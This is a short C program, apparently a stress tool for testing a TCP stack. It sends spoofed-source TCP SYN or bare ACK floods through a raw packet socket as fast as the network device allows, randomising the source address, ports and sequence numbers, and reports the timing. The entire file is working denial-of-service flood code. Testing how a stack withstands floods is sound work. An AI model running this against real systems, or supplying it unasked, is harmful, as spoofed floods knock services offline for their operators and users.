/* SPDX-License-Identifier: MulanPSL-2.0 */
/*
 * A flood from invented addresses, as fast as the device takes it: syn_flood KIND DEVICE MAC SOURCES DESTINATION PORT COUNT
 * KIND is "syn", or "ack" for acknowledgments of nothing. SOURCES is an address whose last 16 bits are varied.
 * Prints how long it took, and how often the device was full.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TCP_LEN 40u /* with the options of a usual SYN */
#define SYN 2
#define ACK 16

static uint8_t frame[14 + 40 + TCP_LEN];
static uint32_t seed = 1;

static uint32_t next_random(void)
{
	return seed = seed * 1664525u + 1013904223u;
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static uint32_t sum(const uint8_t *p, uint32_t len)
{
	uint32_t total = 0;

	for (uint32_t i = 0; i < len; i += 2)
		total += (uint32_t)p[i] << 8 | p[i + 1];
	return total;
}

static uint32_t folded(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return ~total & 0xffff;
}

static uint32_t make(int family, const uint8_t *sources, const uint8_t *destination, uint16_t port, uint8_t flags)
{
	static const uint8_t options[] = { 2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };
	uint32_t addr = family == AF_INET ? 4 : 16, l3 = family == AF_INET ? 20 : 40, variable = next_random();
	uint8_t *ip = frame + 14, *tcp = ip + l3, *source = family == AF_INET ? ip + 12 : ip + 8;

	memset(ip, 0, l3 + TCP_LEN);
	put16(frame + 12, family == AF_INET ? ETHERTYPE_IP : ETHERTYPE_IPV6);
	memcpy(source, sources, addr);
	put16(source + addr - 2, variable >> 16);
	memcpy(source + addr, destination, addr);
	put16(tcp, 1024 + variable % 60000);
	put16(tcp + 2, port);
	put16(tcp + 4, next_random() >> 16);
	put16(tcp + 6, next_random() >> 16);
	if (flags & ACK)
		put16(tcp + 8, next_random() >> 16);
	tcp[12] = TCP_LEN / 4 << 4;
	tcp[13] = flags;
	put16(tcp + 14, 65535);
	memcpy(tcp + 20, options, sizeof(options));
	put16(tcp + 16, folded(sum(tcp, TCP_LEN) + sum(source, 2 * addr) + IPPROTO_TCP + TCP_LEN));
	if (family == AF_INET) {
		ip[0] = 0x45;
		put16(ip + 2, 20 + TCP_LEN);
		ip[8] = 64;
		ip[9] = IPPROTO_TCP;
		put16(ip + 10, folded(sum(ip, 20)));
	} else {
		ip[0] = 0x60;
		put16(ip + 4, TCP_LEN);
		ip[6] = IPPROTO_TCP;
		ip[7] = 64;
	}
	return 14 + l3 + TCP_LEN;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	uint8_t sources[16], destination[16];
	unsigned mac[6];
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (argc != 8 || fd < 0 ||
	    sscanf(argv[3], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
		return 2;
	int family = strchr(argv[4], ':') ? AF_INET6 : AF_INET;
	if (inet_pton(family, argv[4], sources) != 1 || inet_pton(family, argv[5], destination) != 1)
		return 2;
	to.sll_ifindex = (int)if_nametoindex(argv[2]);
	for (int i = 0; i < 6; i++)
		frame[i] = (uint8_t)mac[i];
	memcpy(frame + 6, "\x02\xaa\0\0\0\x77", 6);
	if (bind(fd, (struct sockaddr *)&to, sizeof(to)))
		return 1;
	uint32_t count = (uint32_t)atoi(argv[7]), full = 0;
	double start = now();
	for (uint32_t i = 0; i < count; i++) {
		uint32_t len =
			make(family, sources, destination, (uint16_t)atoi(argv[6]), strcmp(argv[1], "ack") ? SYN : ACK);

		while (send(fd, frame, len, 0) < 0) {
			if (errno != ENOBUFS)
				return 1;
			full++;
			usleep(1000);
		}
	}
	printf("%u segments in %.3f s, the device was full %u times\n", count, now() - start, full);
	return 0;
}
